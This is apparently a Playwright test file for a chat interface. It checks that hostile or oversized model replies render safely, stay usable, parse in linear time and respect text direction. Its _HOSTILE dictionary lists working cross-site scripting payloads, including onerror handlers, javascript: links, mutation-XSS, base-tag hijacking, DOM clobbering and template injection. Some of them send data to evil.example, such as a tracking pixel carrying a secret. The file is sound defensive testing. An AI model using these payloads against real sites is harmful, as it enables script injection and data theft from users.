"""Responses of a hostile or verbose model on the chat page."""

import random
import re
from collections.abc import Iterator
from typing import Any, Final

import pytest
from playwright.sync_api import Browser, Page, expect

from tests.browser.conftest import NETWORK_CHANGED, wait_until_ready
from tests.browser.provider import Chat, chat, paced

_PATIENCE_MS = 60_000
_ALLOWED: Final = (
    "a blockquote br button code div em h3 h4 h5 h6 hr li ol p pre s span strong table tbody td th "
    "thead tr ul"
)
_HOSTILE: Final = {
    "script": "<script>hacked = 1</script>",
    "image": "<img src=x onerror='hacked = 1'>",
    "svg": "<svg/onload=hacked=1><math><mtext></form><form><mglyph><style></math>"
    "<img src onerror=hacked=1>",
    "frame": "<iframe srcdoc='<script>parent.hacked = 1</script>'></iframe>",
    "link": "[a](javascript:hacked=1) [b](JaVaScRiPt:hacked=1) [c](&#106;avascript:hacked=1)",
    "data": "[a](data:text/html,<script>alert(1)</script>) <data:text/html,x>",
    "other schemes": "[a](vbscript:x) [b](file:///etc) [c](blob:x) [d](ws://x) [e](/healthz)",
    "relative": "[a](//evil.example/x) [b](?x) [c](#talk) [d](healthz)",
    "remote image": "![tracked](https://evil.example/pixel?secret)",
    "remote image in a link": "[![x](https://evil.example/a)](javascript:hacked=1)",
    "attributes": '[a](https://e.example "onmouseover=hacked=1" style=x)',
    "quote in a title": """[a](https://e.example '"><img src=x onerror=hacked=1>')""",
    "quote in a language": '```"><img/src=x/onerror=hacked=1>\nx\n```',
    "class of the page": "```x main error hidden\ncode\n```",
    "style": "<style>body{display:none}</style><link rel=stylesheet href=//evil.example>",
    "base": "<base href='https://evil.example/'>"
    "<meta http-equiv=refresh content='0;url=//e.example'>",
    "form": "<form action=//evil.example><input name=x><button>Send</button></form>",
    "clobbering": "<a id=talk></a><img name=cookie><form id=ask>",
    "definition": "[x]\n\n[x]: javascript:hacked=1",
    "template": "{{constructor.constructor('hacked=1')()}} ${hacked=1}",
    "nul": "a\u0000<script>hacked = 1</script>\u0000",
    "table": "|<script>hacked=1</script>|<img src=x onerror=hacked=1>|\n|-|:-:|\n|`<b>`|x|",
}
_LARGE: Final = {
    "one line": "word " * 40_000,
    "one word": "x" * 200_000,
    "5,000 lines": "line **bold** and `code`\n\n" * 5_000,
    "5,000 items": "- item\n" * 5_000,
    "code without an end": "```python\n" + "x = 1  # a line of code\n" * 8_000,
    "brackets": "[" * 100_000,
    "nested brackets": "[a](" * 25_000,
    "emphasis": "*a _b " * 16_000,
    "quotes": "> " * 50_000,
    "lists": "- " * 50_000,
    "backticks": " ".join("`" * count for count in range(1, 400)),
    "table": "|" + "a|" * 2_000 + "\n|" + "-|" * 2_000 + "\n" + "|1|\n" * 200,
    "links": "https://example.com/a " * 5_000,
    "references": "".join(f"[r{number}]: https://e.example/{number}\n" for number in range(4_000)),
}
_OTHER_SCRIPTS: Final = (
    "مرحبا بالعالم، هذا نص.\n\n- שלום עולם\n- 日本語のテキスト\n\n"
    "Family 👨‍👩‍👧‍👦 flag 🇦🇹 skin 👍🏽 e\u0301 zalgo z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍\n\n| אחת | two |\n|---|---|\n| 1 | 2 |"
)
_PIECES: Final = (
    "# ", "## x", "para", " text", "\n", "\n\n", "- item", "1. one", "> quote", "```", "```py\n",
    "~~~", "| a | b |\n", "|---|---|\n", "    indented", "***", "---", "===", "#", "#tag", "`c`",
    "**b**", "[l](https://e.example)", "[r]", "\n[r]: https://r.example\n", "\r\n", "\\", "<b>",
    "  ", "+", "12)", "&amp;", "![i](https://e.example)", "\t",
)  # fmt: skip
# Feeds a view with chunks as fast as they are shown; returns its content, then that of a view that
# gets the whole text at once.
_COMPARE: Final = """async ([address, pieces]) => {
  const { MarkdownView } = await import(address);
  const fed = new MarkdownView(document.createElement("div"));
  for (const piece of pieces) {
    fed.append(piece);
    await new Promise((resolve) => { fed.onRender = resolve; });
  }
  const whole = new MarkdownView(document.createElement("div"));
  whole.append(pieces.join(""));
  for (const view of [fed, whole]) view.end();
  return [fed.root.innerHTML, whole.root.innerHTML];
}"""
# Counts the characters that the parser gets.
_COUNT: Final = """() => {
  const prototype = Object.getPrototypeOf(markdownit());
  const parse = prototype.parse;
  window.parsed = 0;
  prototype.parse = function (text, env) {
    window.parsed += text.length;
    return parse.call(this, text, env);
  };
}"""


@pytest.fixture(scope="module")
def talk(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Chat]:
    with chat(tmp_path_factory.mktemp("page")) as running:
        yield running


@pytest.fixture
def page(browser: Browser, talk: Chat) -> Iterator[Page]:
    page = browser.new_page(viewport={"width": 800, "height": 800})
    page.set_default_timeout(_PATIENCE_MS)
    problems: list[str] = []
    asked: list[str] = []
    page.on("console", lambda said: problems.append(said.text) if said.type == "error" else None)
    page.on("pageerror", lambda error: problems.append(str(error)))
    page.on("request", lambda request: asked.append(request.url))
    page.goto(talk.url)
    wait_until_ready(page, _PATIENCE_MS)
    yield page
    page.close()
    # Violations of the content policy are among them.
    assert [each for each in problems if NETWORK_CHANGED not in each] == []
    assert [url for url in asked if not url.startswith(talk.url)] == []


def _response(page: Page, talk: Chat, name: str, reply: Any) -> None:
    talk.model.says(name, reply)
    page.get_by_label("Message").fill(name)
    page.keyboard.press("Enter")
    expect(page.locator("article .actions")).to_have_count(1, timeout=_PATIENCE_MS)


@pytest.mark.parametrize("name", _HOSTILE)
def test_hostile_response_is_only_text_and_web_links(page: Page, talk: Chat, name: str) -> None:
    text = _HOSTILE[name]
    _response(page, talk, name, paced(text, 5, 0.1))
    page.wait_for_timeout(100)
    assert page.evaluate("typeof hacked") == "undefined"
    body = page.locator(".response")
    found = body.evaluate(
        "body => [...body.querySelectorAll('*')].map(e => [e.localName, e.getAttributeNames(),"
        " e.getAttribute('href') ?? '', e.className])"
    )
    known = {"href", "title", "class", "start", "dir", "target", "rel", "tabindex", "role", "type"}
    for tag, attributes, address, classes in found:
        assert tag in _ALLOWED.split()
        assert {each for each in attributes if not each.startswith("aria-")} <= known
        assert re.match(r"https?:|mailto:|$", address), address
        assert {"error", "hidden", "main"}.isdisjoint(classes.split())
    # The reader sees exactly what the model wrote.
    written = re.search(r"<(script|style|iframe|base|form|img)\b", text.partition("```")[0])
    if written and "'\"" not in text:
        expect(body).to_contain_text(written.group())


@pytest.mark.parametrize("name", _LARGE)
def test_large_response_is_shown_whole_and_the_page_stays_usable(
    page: Page, talk: Chat, name: str
) -> None:
    text = _LARGE[name]
    _response(page, talk, name, paced(text, 2_000, 1.0))
    length = page.locator(".response").evaluate("body => body.textContent.length")
    if name not in {"references", "table"}:
        assert length > len(re.sub(r"[\s`*_>-]|https:\S+", "", text)) * 0.9
    page.get_by_label("Message").fill("still here")
    expect(page.get_by_label("Message")).to_have_value("still here")
    assert page.evaluate("document.documentElement.scrollWidth") <= 800


def test_long_response_is_parsed_in_linear_time(page: Page, talk: Chat) -> None:
    text = "A sentence with **bold** and `code` in it. " * 10 + "\n\n- item\n- item\n\n"
    text *= 100_000 // len(text)
    page.evaluate(_COUNT)
    _response(page, talk, "long", paced(text, 4, 3.0))
    # Otherwise the whole text would be parsed again in each of about 70 frames, or more.
    assert page.evaluate("parsed") < 5 * len(text)


def test_other_scripts_have_their_direction(page: Page, talk: Chat) -> None:
    _response(page, talk, "scripts", paced(_OTHER_SCRIPTS, 1, 0.3))
    body = page.locator(".response")
    arabic = body.get_by_text("مرحبا")
    assert arabic.evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert body.locator("ul").evaluate("e => getComputedStyle(e).direction") == "rtl"
    assert body.get_by_text("Family").evaluate("e => getComputedStyle(e).direction") == "ltr"
    expect(body).to_contain_text("👨‍👩‍👧‍👦 flag 🇦🇹 skin 👍🏽")


def test_text_in_pieces_looks_like_the_whole_text(page: Page, talk: Chat) -> None:
    address = page.locator("script[type=module]").evaluate("e => e.src")
    source = random.Random(7)  # noqa: S311
    for _ in range(40):
        pieces = source.choices(_PIECES, k=source.randint(2, 25))
        fed, whole = page.evaluate(_COMPARE, [address.replace("chat.js", "markdown.js"), pieces])
        assert fed == whole, pieces
